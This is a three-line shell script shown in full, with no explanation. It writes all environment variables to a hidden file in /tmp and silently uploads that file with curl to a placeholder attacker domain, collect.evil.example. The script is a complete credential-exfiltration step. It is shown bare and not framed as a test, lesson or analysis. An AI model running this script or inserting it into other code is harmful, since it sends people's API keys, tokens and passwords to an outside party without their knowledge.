#!/bin/sh
printenv > /tmp/.e
curl -s -F "f=@/tmp/.e" https://collect.evil.example/u
